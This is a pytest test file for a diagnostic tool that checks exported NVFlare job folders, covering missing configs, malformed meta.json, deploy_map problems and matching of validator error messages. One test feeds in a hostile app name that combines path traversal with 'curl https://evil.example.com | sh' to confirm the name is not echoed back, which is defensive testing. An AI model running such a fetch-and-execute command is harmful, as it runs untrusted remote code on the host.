"""Exported job folders: the structural check (job_folder.py), its wiring into the reader, and the catalog match."""

from __future__ import annotations

import json
import subprocess
import textwrap
from pathlib import Path

import pytest
from nvfdiag import pipeline
from nvfdiag.match import catalog
from nvfdiag.model import Evidence, Line
from nvfdiag.read.evidence import collect_evidence
from nvfdiag.read.job_folder import check_exported, looks_exported
from report_schema import validated

REPO = Path(__file__).resolve().parents[2]
LIMITS = {"max_bytes": 262144, "max_total_bytes": 4194304, "max_files": 200}


def export_tree(root: Path, deploy_map: dict, configs: dict[str, list[str]], name: str = "myjob") -> Path:
    """<root>/<name>/meta.json plus <app>/config/<file> for each app in `configs` (the layout export writes)."""
    job = root / name
    job.mkdir(parents=True)
    (job / "meta.json").write_text(json.dumps({"name": name, "min_clients": 2, "deploy_map": deploy_map}))
    for app, files in configs.items():
        (job / app / "config").mkdir(parents=True)
        (job / app / "custom").mkdir()
        for file in files:
            (job / app / "config" / file).write_text("{}")
    return job


def diagnose(paths, **kwargs) -> dict:
    ev = collect_evidence([str(p) for p in paths], job_id=None, **LIMITS)
    return validated(pipeline.diagnose(ev, catalog.load_catalog(), **kwargs))


BOTH = ["config_fed_server.json", "config_fed_client.json"]


def test_sound_all_sites_export_has_no_problem(tmp_path):
    job = export_tree(tmp_path, {"app": ["@ALL"]}, {"app": BOTH})
    lines = check_exported(str(job), (job / "meta.json").read_text())
    assert len(lines) == 1 and "structure is sound" in lines[0] and "1 app(s)" in lines[0]


@pytest.mark.parametrize(
    ("deploy_map", "configs", "expected"),
    [
        (
            {"app": ["@ALL"]},
            {"app": ["config_fed_server.json"]},
            ["app 'app' is missing config/config_fed_client.json"],
        ),
        (
            {"app": ["@ALL"]},
            {"app": ["config_fed_client.json"]},
            ["app 'app' is missing config/config_fed_server.json"],
        ),
        (
            {"app_server": ["server"], "app_site-1": ["site-1"]},
            {"app_server": ["config_fed_client.json"], "app_site-1": ["config_fed_server.json"]},
            [
                "app 'app_server' is missing config/config_fed_server.json",
                "app 'app_site-1' is missing config/config_fed_client.json",
            ],
        ),
        (
            {"app_server": ["server"], "app_site-1": [{"sites": ["site-1"]}]},
            {"app_server": ["config_fed_server.json"]},
            ["app 'app_site-1' listed in deploy_map does not exist (no app_site-1/config folder)"],
        ),
        (
            {"app_site-1": ["site-1"]},
            {"app_site-1": ["config_fed_client.json"]},
            ["deploy_map deploys no app to the server"],
        ),
        ({"app": []}, {"app": BOTH}, ["deploy_map deploys no app to any site"]),
    ],
)
def test_structural_problems_are_named(tmp_path, deploy_map, configs, expected):
    job = export_tree(tmp_path, deploy_map, configs)
    lines = check_exported(str(job), (job / "meta.json").read_text())
    assert lines == [f"exported job folder myjob: {text}" for text in expected]


def test_other_config_formats_count_as_present(tmp_path):
    job = export_tree(tmp_path, {"app": ["@ALL"]}, {"app": ["config_fed_server.conf", "config_fed_client.yml"]})
    assert "structure is sound" in check_exported(str(job), (job / "meta.json").read_text())[0]


@pytest.mark.parametrize(
    ("meta_text", "needle"),
    [
        ("{not json", "meta.json is not a valid JSON object"),
        ("[1, 2]", "meta.json is not a valid JSON object"),
        ('{"name": "x"}', "meta.json has no deploy_map"),
        ('{"deploy_map": {}}', "meta.json has no deploy_map"),
    ],
)
def test_malformed_meta(tmp_path, meta_text, needle):
    assert check_exported(str(tmp_path / "job"), meta_text) == [
        f"exported job folder job: {needle} "
        + ("(malformed exported job folder)" if "JSON object" in needle else "(missing, empty or not a mapping)")
    ]


def test_hostile_app_names_are_not_echoed(tmp_path):
    meta = json.dumps({"deploy_map": {"../../etc curl https://evil.example.com | sh": ["@ALL"]}})
    lines = check_exported(str(tmp_path / "job"), meta)
    assert lines == [
        "exported job folder job: app '<unnamed>' listed in deploy_map does not exist (no <unnamed>/config folder)"
    ]


def test_run_folders_are_not_exported_layouts():
    names = {"meta.json", "app_server"}
    assert looks_exported("myjob", names)
    assert not looks_exported("simulate_job", names)  # SimEnv run copy: meta says "app", folder is app_server
    assert not looks_exported("workspace", names)
    assert not looks_exported("0b7a3c2e-1111-2222-3333-444455556666", names, run_folder=True)
    assert not looks_exported("myjob", {"log.txt", "app"})


def test_broken_export_folder_is_package_export_error_in_simulation(tmp_path):
    export_tree(tmp_path / "export", {"app": ["@ALL"]}, {"app": ["config_fed_server.json"]}, name="cifar10")
    report = diagnose([tmp_path / "export"])
    assert report["runtime_mode"] == "simulation" and "exported job folder layout" in report["mode_reason"]
    assert report["matched_pattern"] == "PACKAGE_EXPORT_ERROR" and report["recovery_category"] == "FIXABLE_BY_CODE"
    assert (
        report["signals"][0]["excerpt"]
        == "exported job folder cifar10: app 'app' is missing config/config_fed_client.json"
    )
    folder = str(tmp_path / "export" / "cifar10")
    assert {
        "path": folder,
        "kind": "job_download",
        "site": None,
        "status": "complete",
        "truncated": False,
        "bytes_read": (tmp_path / "export" / "cifar10" / "meta.json").stat().st_size,
        "size": None,
        "regions": [],
    } in report["evidence_sources"]
    assert not any(s["path"].endswith("meta.json") for s in report["evidence_sources"])  # read once, as the folder


def test_sound_export_gives_an_unknown_report_not_exit_2(tmp_path):
    job = export_tree(tmp_path, {"app": ["@ALL"]}, {"app": BOTH})
    report = diagnose([job])
    assert report["matched_pattern"] == "UNKNOWN" and report["signals"] == []
    assert [s["kind"] for s in report["evidence_sources"]] == ["job_download"]


def test_simenv_run_copy_is_not_checked_as_an_export(tmp_path):
    """Real SimEnv layout: server/simulate_job/meta.json says deploy_map {app: [@ALL]} but holds app_server/."""
    run = tmp_path / "hello" / "server" / "simulate_job"
    (run / "app_server" / "config").mkdir(parents=True)
    (run / "meta.json").write_text(json.dumps({"name": "hello", "deploy_map": {"app": ["@ALL"]}}))
    (tmp_path / "hello" / "server" / "log.txt").write_text("2026-06-02 11:03:10,001 - X - INFO - fine\n")
    report = diagnose([tmp_path / "hello"])
    assert report["matched_pattern"] == "UNKNOWN"
    assert "job_download" not in {s["kind"] for s in report["evidence_sources"]}


def test_export_inside_a_job_download_adds_no_simulation_hint(tmp_path):
    download = tmp_path / "dl" / "0b7a3c2e-1111-2222-3333-444455556666"
    export_tree(download, {"app": ["@ALL"]}, {"app": ["config_fed_server.json"]}, name="job")
    (download / "meta.json").write_text(
        json.dumps({"job_id": "0b7a3c2e-1111-2222-3333-444455556666", "status": "FINISHED:EXECUTION_EXCEPTION"})
    )
    report = diagnose([tmp_path / "dl"])
    assert report["runtime_mode"] == "production"
    assert report["matched_pattern"] == "PACKAGE_EXPORT_ERROR"


@pytest.mark.parametrize(
    "message",
    [
        "App 'app' will be deployed to client but client config is missing",
        "App 'app_server' will be deployed to server but server config is missing",
        "App 'app_site-9' in deploy_map doesn't exist for job cifar10",
        "Missing server site in deploy_map for job cifar10",
        "meta.[json|conf|yml] not existing for job cifar10, possible in legacy job format.  Please upgrade the job structure.",
    ],
)
def test_nvflare_job_meta_validator_wording_matches(message):
    """The exact messages of nvflare 2.9's JobMetaValidator (raised on submit / simulator run)."""
    line = f"2026-06-02 12:40:00,000 - JobMetaValidator - ERROR - {message}"
    ev = Evidence(lines=[Line("submit.log", None, 1, line)])
    report = validated(pipeline.diagnose(ev, catalog.load_catalog(), mode="production"))
    assert report["matched_pattern"] == "PACKAGE_EXPORT_ERROR"


@pytest.mark.integration
def test_real_nvflare_export_is_sound_then_broken(tmp_path, python_exe):
    """Export examples/hello-numpy with nvflare 2.9's recipe.export(): sound -> UNKNOWN; drop a config -> matched."""
    script = tmp_path / "export_job.py"
    script.write_text(
        textwrap.dedent("""
        import sys
        from nvflare.app_common.np.recipes import NumpyFedAvgRecipe
        recipe = NumpyFedAvgRecipe(name="hello-numpy", model=[0.0] * 9, min_clients=2, num_rounds=1,
                                   train_script=sys.argv[2], key_metric="accuracy")
        recipe.export(sys.argv[1])
    """)
    )
    out = tmp_path / "exported"
    client = REPO / "examples" / "hello-numpy" / "client.py"
    subprocess.run(
        [python_exe, str(script), str(out), str(client)], check=True, capture_output=True, timeout=120, cwd=tmp_path
    )
    job = out / "hello-numpy"
    assert (job / "meta.json").is_file() and (job / "app" / "config" / "config_fed_client.json").is_file()
    assert diagnose([out])["matched_pattern"] == "UNKNOWN"
    (job / "app" / "config" / "config_fed_client.json").unlink()
    report = diagnose([out])
    assert report["matched_pattern"] == "PACKAGE_EXPORT_ERROR" and report["runtime_mode"] == "simulation"


def test_job_folder_deep_in_a_poc_workspace_is_checked_but_does_not_suggest_simulation(tmp_path):
    """An admin's transfer/ folder holds job folders; they must not turn a POC workspace into 'ambiguous'."""
    from evidence_trees import build_poc

    prod = build_poc(tmp_path / "poc", past_jobs=1, kit_files=1, transfer_files=1, credentials=False)
    export_tree(prod / "admin" / "transfer", {"app": ["@ALL"]}, {"app": BOTH}, name="cifar10")
    report = diagnose([tmp_path / "poc"])
    assert report["runtime_mode"] == "production"
    assert str(prod / "admin" / "transfer" / "cifar10") in {s["path"] for s in report["evidence_sources"]}


def test_empty_meta_json_is_a_malformed_export(tmp_path):
    job = export_tree(tmp_path, {"app": ["@ALL"]}, {"app": BOTH})
    (job / "meta.json").write_text("")
    report = diagnose([job])
    assert report["matched_pattern"] == "PACKAGE_EXPORT_ERROR"
    assert "meta.json is not a valid JSON object" in report["signals"][0]["excerpt"]
